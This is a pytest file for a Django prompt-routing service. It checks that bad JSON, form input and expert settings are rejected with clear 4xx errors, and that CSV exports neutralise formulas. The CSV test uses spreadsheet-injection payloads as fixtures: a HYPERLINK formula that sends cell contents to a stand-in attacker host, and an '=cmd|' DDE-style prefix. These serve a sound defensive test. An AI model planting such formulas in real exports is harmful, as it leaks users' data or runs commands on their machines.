"""Bad input never reaches a 500: it gets a clear 4xx (JSON on every API path) and changes nothing; CSV exports
cannot carry spreadsheet formulas (issue 11, "Bad input never reaches a 500" and item 9)."""
import json

import pytest
from django.test import Client

from designer.models import QualityTable
from experts.models import Expert, MapVersion
from experts.models import Category
from routing.models import Batch, RouterTraining, RoutingDecision
from tests.conftest import make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def editor():
    c = Client()
    c.force_login(make_user("root", is_staff=True, is_superuser=True))
    return c


def post(client, url, body, method="post"):
    raw = body if isinstance(body, (bytes, str)) else json.dumps(body)
    return getattr(client, method)(url, raw, content_type="application/json")


def unchanged():
    return (Batch.objects.count(), RoutingDecision.objects.count(), MapVersion.objects.count(),
            RouterTraining.objects.count(), list(Expert.objects.values_list("name", "parameters", "timeout_s",
                                                                           "bytes_per_parameter", "description")))


@pytest.mark.parametrize("url, body, message", [
    ("/api/route", {"prompt": "a\x00b"}, "NUL character"),
    ("/api/route", '{"prompt": "\\ud800 lone"}', "unpaired surrogate"),
    ("/api/route", "[" * 100_000 + "]" * 100_000, "nested more than"),
    ("/api/route", '{"prompt": ' + "[" * 40 + '"x"' + "]" * 40 + "}", "nested more than"),
    ("/api/route", '{"prompt": NaN}', "not a number JSON allows"),
    ("/api/batches", {"prompts": [{"prompt": "ok", "id": "x" * 201}]}, "the limit is 200"),
    ("/api/batches", {"prompts": [{"prompt": "ok", "category": "c" * 61}]}, "the limit is 60"),
    ("/api/batches", {"prompts": ["fine", "bad\x00"]}, "NUL character"),
    ("/api/map/preview", {"assignments": {"math": {"x": 1}}}, "category names to expert names"),
    ("/api/map/preview", {"assignments": {"math": "x"}, "splits": {"math": {"expert": "x", "share": 7}}},
     "between 0 and 1"),
    ("/api/router/retrain", {"override": "false"}, "JSON boolean"),
    ("/api/map", {"base_version": 1, "assignments": {"math": 3}}, "category names to expert names"),
])
def test_bad_api_input_is_a_clear_400_and_changes_nothing(editor, active_router, url, body, message):
    before = unchanged()
    r = post(editor, url, body)
    assert r.status_code == 400 and r["Content-Type"] == "application/json", r.content[:300]
    assert message in r.json()["error"]["message"] or message in json.dumps(r.json()), r.json()
    assert unchanged() == before


@pytest.mark.parametrize("field, value", [
    ("parameters", float("inf")), ("parameters", "7e9"), ("parameters", -5), ("parameters", True),
    ("bytes_per_parameter", "nan"), ("bytes_per_parameter", 0), ("timeout_s", -1), ("timeout_s", "soon"),
    ("context_length", 10**12), ("active_parameters", 0), ("description", {"x": 1}), ("enabled", "yes"),
    ("generation", {"max_new_tokens": "lots"}),
])
def test_expert_fields_must_be_finite_typed_and_in_range(editor, field, value):
    before = unchanged()
    r = editor.patch("/api/experts/qwen2-7b-instruct", json.dumps({field: value}, allow_nan=True),
                     content_type="application/json")
    assert r.status_code == 400, (field, value, r.content[:200])
    assert unchanged() == before


def test_non_finite_json_numbers_are_refused_even_inside_objects(editor):
    r = editor.patch("/api/experts/qwen2-7b-instruct", '{"timeout_s": Infinity}', content_type="application/json")
    assert r.status_code == 400 and "not a number JSON allows" in r.json()["error"]["message"]


def test_pages_refuse_nul_characters_and_bad_numbers(editor, active_router):
    before = unchanged()
    r = editor.post("/", {"prompt": "hello\x00world"})
    assert r.status_code == 400 and "NUL character" in r.content.decode()
    r = editor.post("/map/experts/save/", {"name": "new-one", "model_id": "m", "parameters": "7",
                                           "bytes_per_parameter": "two"})
    assert r.status_code == 302 and not Expert.objects.filter(name="new-one").exists()
    assert unchanged() == before


def test_designer_apply_refuses_a_non_finite_budget(editor, tmp_path):
    from designer.services import import_table

    table = import_table(name="t", kind="category", scores=("s.csv", b"category,model,score\ncoding,a,5\n"),
                         models=("m.csv", b"model,total_params\na,7\n"))
    before = MapVersion.objects.count()
    for budget in ("nan", "inf", "-1", "lots"):
        r = editor.post(f"/designer/{table.pk}/apply", {"budget": budget, "base_version": 1})
        assert r.status_code in (400, 409) and MapVersion.objects.count() == before, (budget, r.status_code)
    assert QualityTable.objects.count() == 1


def test_unknown_api_paths_and_methods_answer_json(editor):
    r = editor.get("/api/nothing-here")
    assert r.status_code == 404 and r.json()["error"]["message"].startswith("No API endpoint")
    r = editor.get("/v1/embeddings")
    assert r.status_code == 404 and r.json()["error"]["type"] == "api_error"
    r = editor.delete("/api/map")
    assert r.status_code == 405 and "not allowed" in r.json()["error"]["message"]


def test_post_to_a_static_file_is_not_a_server_error(editor):
    r = editor.post("/static/js/dom.js", {"x": 1})
    assert r.status_code in (403, 404, 405)


def test_csv_results_neutralise_formulas(editor, active_router, django_capture_on_commit_callbacks, settings):
    settings.CELERY_TASK_ALWAYS_EAGER, settings.COE_JOBS_IN_BACKGROUND = True, False  # jobs inline
    prompts = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4 is what?", "@SUM(A1:A9)",
               "plain question about math"]
    with django_capture_on_commit_callbacks(execute=True):
        batch_id = post(editor, "/api/batches", {"prompts": [{"prompt": p, "id": f"=cmd|{i}"}
                                                             for i, p in enumerate(prompts)]}).json()["id"]
    body = b"".join(editor.get(f"/api/batches/{batch_id}/results?format=csv").streaming_content).decode()
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["prompt"] for r in rows] == ["'" + p for p in prompts[:4]] + [prompts[4]]
    assert all(r["id"].startswith("'=cmd|") for r in rows)
    assert all(not r["confidence"].startswith("'") for r in rows)  # numbers stay numbers
    jsonl = b"".join(editor.get(f"/api/batches/{batch_id}/results?format=jsonl").streaming_content).decode()
    assert json.loads(jsonl.splitlines()[0])["prompt"] == prompts[0]  # JSONL keeps the text as it was
    assert Category.objects.exists()
